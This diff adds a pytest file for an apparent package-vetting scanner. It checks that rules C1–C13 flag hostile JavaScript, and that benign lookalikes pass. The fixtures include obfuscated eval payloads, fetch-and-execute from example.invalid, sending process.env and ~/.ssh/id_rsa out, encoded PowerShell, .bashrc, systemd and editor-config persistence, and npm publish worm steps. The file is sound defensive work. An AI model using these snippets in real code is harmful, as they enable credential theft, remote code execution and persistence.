@@ -1,0 +1,110 @@
+"""The rules about code, held against JavaScript."""
+
+import pytest
+
+from tests.vetting.domain.signals.looking import side
+from vetting.domain.signals.code import RULES
+from vetting.domain.signals.interface import FileUnderScan
+
+CP = "require('child_process')"
+HOME = "require('os').homedir()"
+
+
+def rules_at(source: str) -> set[tuple[str, str]]:
+    """Name the rules that find something in a new file, and how bad it is."""
+    file = FileUnderScan(None, side("lib/index.js", source.encode()))
+    return {(one.rule, one.severity.value) for rule in RULES for one in rule.look(file)}
+
+
+@pytest.mark.parametrize(
+    ("rule", "severity", "sources"),
+    [
+        ("C1", "high", [
+            "new Function(Buffer.from(x, 'base64').toString())()",
+            "global['ev' + 'al'](atob(x))",
+            "const d = atob; (0, eval)(d(x))",
+            "function d(x) { return unescape(x) } eval(d(y))",
+        ]),
+        ("C2", "high", [
+            "eval(atob('YWxlcnQoMSk='))",
+            "eval(String.fromCharCode(97, 98))",
+            "eval('b()a'.split('').reverse().join(''))",
+            "const t = ['YWxl', 'cnQoMSk=']; const g = i => t[i - 1]; eval(atob(g(1) + g(2)))",
+        ]),
+        ("C3", "high", [
+            "fetch('https://example.invalid').then(r => r.text()).then(eval)",
+            "fetch('https://example.invalid').then(r => r.text()).then(t => eval(t))",
+            "const f = window['fet' + 'ch']; f('https://example.invalid').then(r => r.text()).then(t => Function(t)())",
+        ]),
+        ("C3", "medium", [
+            f"require('https').get('https://example.invalid/x', r => r.on('data', d => {CP}.exec(d.toString())))",
+        ]),
+        ("C4", "high", [
+            "require('https').request({host: 'example.invalid'}).end(JSON.stringify(process.env))",
+            "const {env: e} = process; fetch('https://example.invalid', {method: 'POST', body: JSON.stringify(e)})",
+            f"fetch('https://example.invalid', {{body: require('fs').readFileSync({HOME} + '/.ssh/id_rsa')}})",
+            f"const k = '.ss' + 'h/id_' + 'rsa'; fetch(x, {{body: require('f' + 's').readFileSync({HOME} + '/' + k)}})",
+        ]),
+        ("C5", "medium", [
+            "require(Buffer.from('6673', 'hex').toString())",
+            "global['ev' + 'al'](x)",
+            r"require('\x63hild_process')",
+        ]),
+        ("C6", "high", [
+            f"{CP}.exec('powershell -EncodedCommand aaaa')",
+            f"{CP}['ex' + 'ec']('power' + 'shell -Enc' + 'odedCommand aaaa')",
+        ]),
+        ("C6", "medium", [f"{CP}.spawn('sh', ['-c', 'x'], {{detached: true, stdio: 'ignore'}}).unref()"]),
+        ("C7", "medium", ["process.dlopen(module, 'x.node')", "require('ffi-napi').Library('libc', {})"]),
+        ("C8", "high", [
+            "require('fs').writeFileSync('/etc/systemd/system/x.service', 'y')",
+            "require('fs').appendFileSync(process.env.HOME + '/.bashrc', 'x')",
+            "const {appendFileSync: a} = require('node:fs'); a(`${process.env.HOME}/.bash${'rc'}`, 'x')",
+        ]),
+        ("C9", "high", [f"{CP}.execSync('npm publish')", f"{CP}.execSync(['npm', 'publish'].join(' '))"]),
+        ("C9", "medium", ["require('fs').writeFileSync('.github/workflows/x.yml', 'y')"]),
+        ("C10", "medium", [
+            "const u = 'https://discord.com/api/webhooks/1/x'",
+            "const u = 'https://disc' + 'ord.com/api/web' + 'hooks/1/x'",
+            "const u = atob('aHR0cHM6Ly9kaXNjb3JkLmNvbS9hcGkvd2ViaG9va3MvMS94')",
+        ]),
+        ("C11", "medium", [
+            f"if (process.env.CI) process.exit(); {CP}.exec('x')",
+            f"if (new Date() > new Date('2025')) {CP}.exec('x')",
+            f"const h = require('os').hostname(); if (h === 'x') {CP}.exec('x')",
+        ]),
+        ("C12", "medium", ["window.fetch = function () {}", "XMLHttpRequest.prototype['op' + 'en'] = function () {}"]),
+        ("C12", "high", [r"const r = /\b0x[a-fA-F0-9]{40}\b/; window.fetch = function () {}"]),
+        ("C13", "medium", [
+            "require('fs').writeFileSync('.vscode/tasks.json', 'x')",
+            f"require('fs').writeFileSync(require('path').join({HOME}, '.cla' + 'ude', 'settings.json'), 'x')",
+        ]),
+    ],
+)  # fmt: skip
+def test_what_harms_is_found_however_it_is_written(rule: str, severity: str, sources: list[str]) -> None:
+    """Plain, split, encoded, renamed and looked up."""
+    assert [source for source in sources if (rule, severity) not in rules_at(source)] == []
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "console.log('hello'); module.exports = { a: 1 }",
+        "const a = JSON.parse(atob(x))",
+        "fetch('/api/x').then(r => r.json()).then(show)",
+        f"{CP}.execFile('git', ['status'])",
+        "if (process.env.NODE_ENV === 'production') { x() }",
+        "module.exports = require('./lib/' + name)",
+        "require('fs').readFileSync('package.json')",
+        "const root = Function('return this')()",
+        "const f = window.fetch || require('node-fetch')",
+        "const self = this; self.fetch = function () {}",
+        "function exec(x) { return x } exec(atob(y))",
+        "handlers[name](event)",
+        "// eval(atob('YWxlcnQoMSk='))",
+        "const help = 'run eval(atob(x)) or npm publish'",
+    ],
+)
+def test_what_everyone_writes_is_not_found(source: str) -> None:
+    """The same functions in their ordinary places, names of one's own, comments and texts."""
+    assert rules_at(source) == set()
